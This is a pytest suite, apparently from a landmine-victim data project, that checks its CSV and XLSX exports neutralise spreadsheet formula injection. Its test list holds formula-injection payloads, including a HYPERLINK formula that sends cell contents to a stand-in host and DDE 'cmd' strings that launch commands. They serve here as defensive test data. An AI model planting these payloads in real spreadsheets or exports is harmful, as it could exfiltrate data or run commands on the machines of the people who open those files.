"""CSV formula injection (OWASP): every CSV we write neutralises a text cell starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return, and leaves numbers (negative ones too) as
numbers. One helper, ``minewatch.domain.cells.safe_row``, is used by every CSV writer: a writer
that bypasses it fails ``test_every_csv_writer_goes_through_safe_row``."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from minewatch.app import App
from minewatch.domain.cells import safe_cell
from minewatch.services import downloads
from minewatch.services.field_export import export_layer
from minewatch.services.field_import import import_files, resolve_mapping
from minewatch.web.app import create_app
from minewatch.web.tabular import to_csv

SRC = Path(__file__).resolve().parents[2] / "src" / "minewatch"
# The XLSForm workbooks are built from our own form definitions (no user text), and their
# expressions are XLSForm syntax that must stay as written.
OWN_TEXT = {"services/forms.py"}
EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]
NUMBERS = ["-12", "-75.18", "+3.5e2", "-.5", "0", "12"]


@pytest.mark.parametrize("text", EVIL)
def test_text_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*NUMBERS, -12, -0.5, 7, None, True, "plain", "a=b", "", "'x"])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def _cells(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


def _dangerous(rows: list[list[str]]) -> list[str]:
    return [
        c
        for row in rows
        for c in row
        if c[:1] in ("=", "+", "-", "@", "\t", "\r") and safe_cell(c) != c
    ]


def test_tabular_csv_neutralises_text_and_keeps_numbers() -> None:
    rows = [{"name": text, "n": -3, "x": {"y": "-4.5"}, "list": [text, -1]} for text in EVIL]
    table = _cells(to_csv(rows, hxl=True))
    assert table[0] == ["name", "n", "x.y", "list"]
    assert [r[0] for r in table[2:]] == ["'" + t for t in EVIL]
    assert {r[1] for r in table[2:]} == {"-3"} and {r[2] for r in table[2:]} == {"-4.5"}
    assert _dangerous(table) == []


def test_shipped_download_files_hold_no_formula_cell() -> None:
    files = downloads.reference_files()
    assert files
    for item in files:
        assert _dangerous(_cells(item.content)) == [], item.name


VICTIMS = [
    "departamento",
    "codigodanedepartamento",
    "municipio",
    "codigodanemunicipio",
    "tipoarea",
    "sitio",
    "ano",
    "mes",
    "rangoedad",
    "grupoetnico",
    "condicion",
    "estado",
    "genero",
    "latitudcabecera",
    "longitudcabecera",
    "tipoevento",
    "Ubicación",
    "Actividad",
]


def _victim(town: str) -> list[str]:
    return [
        "META", "50", town, "50,711", "Rural", town, "2,007", "11", "Mayor de 18 años",
        "Ninguno", "Civil", "Hombre", "Muerto", "3.12", "-73.75", "Accidente por MAP",
        "(3.12, -73.75)", town,
    ]  # fmt: skip


def _import_victims(app: App, tmp_path: Path) -> None:
    path = tmp_path / "victims.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [
                VICTIMS,
                _victim(EVIL[0]),
                _victim(EVIL[1]),
            ]
        )
    mapping = resolve_mapping(None, "co-aicma-victims", None)
    assert import_files(app, [path], mapping, actor="test:csv").counts.added == 2


def test_field_exports_and_layer_csv_are_neutralised(empty_app: App, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _import_victims(empty_app, tmp_path)
    with empty_app.engine.connect() as connection:
        for public in (True, False):
            path = tmp_path / f"victims-{public}.csv"
            export_layer(connection, "victims", "csv", path, public=public)
            table = _cells(path.read_text("utf-8"))
            assert _dangerous(table) == []
            assert {"'" + EVIL[0], "'" + EVIL[1]} <= {c for row in table for c in row}
        book = tmp_path / "victims.xlsx"
        export_layer(connection, "victims", "xlsx", book, public=False)
    values = [c for row in load_workbook(book).active.iter_rows(values_only=True) for c in row]
    assert "'" + EVIL[0] in values and not any(
        isinstance(v, str) and v.startswith("=") for v in values
    )
    with TestClient(create_app(empty_app)) as client:
        answer = client.get("/api/v1/layers/victims?format=csv")
        assert answer.status_code == 200
        table = _cells(answer.content)
        assert _dangerous(table) == [] and "'" + EVIL[0] in {c for r in table for c in r}


def _writer_calls(tree: ast.AST) -> list[ast.Call]:
    return [
        node
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Attribute)
        and node.func.attr in ("writerow", "writerows", "append")
        and isinstance(node.func.value, ast.Name)
        and node.func.value.id in ("writer", "sheet")
    ]


def test_every_csv_writer_goes_through_safe_row() -> None:
    bypass, seen = [], 0
    for path in SRC.rglob("*.py"):
        source = path.read_text("utf-8")
        tree = ast.parse(source)
        if "csv.writer(" in source or "openpyxl" in source:
            assert "writerows(" not in source, f"{path.name}: writerows bypasses safe_row"
        for call in _writer_calls(tree):
            seen += 1
            arg = call.args[0] if call.args else None
            named = isinstance(arg, ast.Call) and getattr(arg.func, "id", "") == "safe_row"
            if not named and str(path.relative_to(SRC)) not in OWN_TEXT:
                bypass.append(f"{path.relative_to(SRC)}:{call.lineno}")
    assert seen >= 6 and bypass == []
